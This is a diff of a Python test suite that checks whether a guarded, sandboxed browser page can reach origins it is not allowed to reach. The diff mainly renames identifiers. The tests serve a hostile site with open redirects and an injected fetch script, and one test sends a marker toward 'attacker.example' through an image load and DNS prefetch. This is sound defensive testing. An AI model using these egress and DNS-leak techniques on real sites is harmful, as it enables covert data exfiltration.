@@ -1,4 +1,4 @@
-"""A page cannot reach an origin that is not allowed, by any of the ways that browsers have.
+"""A page cannot reach an origin that is not allowed, by any means that a browser offers.
 
 The canary server counts connections, bytes and datagrams. As a control, the same page reaches it once it is allowed.
 """
@@ -14,8 +14,8 @@ import pytest
 from playwright.async_api import Browser
 
 from midcourse.worlds.browser.egress.tls import Certificate
-from tests.worlds.browser.guarded import Guarded, chromium, guarded, until
-from tests.worlds.browser.site import Answer, Asked, Site
+from tests.worlds.browser.guarded_page import GuardedPage, chromium, open_guarded_page, until
+from tests.worlds.browser.site import Answer, ReceivedRequest, Site
 
 pytestmark = [pytest.mark.slow, pytest.mark.asyncio(loop_scope="session")]
 
@@ -100,16 +100,16 @@ LEAVING = {
 """Ways in which the page itself goes away."""
 
 
-def attacked() -> Site:
-    def away(status: int, asked: Asked) -> Answer:
+def hostile_site() -> Site:
+    def redirect(status: int, asked: ReceivedRequest) -> Answer:
         return Answer(status=status, fields={"Location": asked.path.partition("?")[2] + "?4111"})
 
     shared = "fetch(location.search.slice(1) + '/shared?4111', {mode: 'no-cors'})"
     return Site(
         {
             "/": "<title>Attacked</title><body>4111",
-            "/away": lambda asked: away(302, asked),
-            "/kept": lambda asked: away(307, asked),
+            "/away": lambda asked: redirect(302, asked),
+            "/kept": lambda asked: redirect(307, asked),
             "/shared.js": Answer(shared, kind="text/javascript"),
         }
     )
@@ -134,7 +134,7 @@ async def datagrams() -> AsyncGenerator[tuple[str, Datagrams]]:
         transport.close()
 
 
-async def try_everything(here: Guarded, site: Site, canary: Site, udp: str) -> None:
+async def try_everything(here: GuardedPage, site: Site, canary: Site, udp: str) -> None:
     where = f"const canary = {canary.url!r}, datagrams = {udp!r}, tcp = {urlsplit(canary.url).netloc!r};{ADD}{FORM}"
     for script in WAYS.values():
         await here.run(f"try {{ {where}{script} }} catch (refused) {{}}")
@@ -145,7 +145,7 @@ async def try_everything(here: Guarded, site: Site, canary: Site, udp: str) -> N
 
 
 def paths(found: Iterable[str]) -> set[str]:
-    """Of requests or URLs, the last part of each path."""
+    """The last part of the path of each request or URL."""
     return {urlsplit(each.rpartition(" ")[2]).path.strip("/") for each in found}
 
 
@@ -159,8 +159,8 @@ TELLING = {
 
 
 async def test_page_cannot_reach_an_origin_that_is_not_allowed(browser: Browser) -> None:
-    async with attacked().served() as site, Site().served() as canary, datagrams() as (udp, received):
-        async with guarded(browser, site) as here:
+    async with hostile_site().served() as site, Site().served() as canary, datagrams() as (udp, received):
+        async with open_guarded_page(browser, site) as here:
             here.outbox.attended = True  # nothing waits: what is stopped is stopped by the list alone
             await try_everything(here, site, canary, udp)
             refused: set[str] = set()
@@ -175,8 +175,8 @@ async def test_page_cannot_reach_an_origin_that_is_not_allowed(browser: Browser)
 
 
 async def test_same_page_reaches_the_origin_once_it_is_allowed(browser: Browser) -> None:
-    async with attacked().served() as site, Site().served() as canary, datagrams() as (udp, received):
-        async with guarded(browser, site, {canary.url: {}}) as here:
+    async with hostile_site().served() as site, Site().served() as canary, datagrams() as (udp, received):
+        async with open_guarded_page(browser, site, {canary.url: {}}) as here:
             here.outbox.attended = True
             await try_everything(here, site, canary, udp)
             await until(lambda: {*TELLING, "socket"} <= paths(asked.path for asked in canary.asked))
@@ -184,12 +184,12 @@ async def test_same_page_reaches_the_origin_once_it_is_allowed(browser: Browser)
 
 
 async def test_browser_looks_up_no_name_itself(tmp_path: Path) -> None:
-    """A name server of the attacker's would read what is in the name."""
+    """Otherwise an attacker's name server could read data in the name."""
     log = tmp_path / "net.json"
     async with (
         chromium(Certificate(), f"--log-net-log={log}") as browser,
-        attacked().served() as site,
-        guarded(browser, site) as here,
+        hostile_site().served() as site,
+        open_guarded_page(browser, site) as here,
     ):
         await here.run("new Image().src = 'http://4111.attacker.example/'")
         await here.run(ADD + "add('link', {rel: 'dns-prefetch', href: 'http://4111.attacker.example'})")
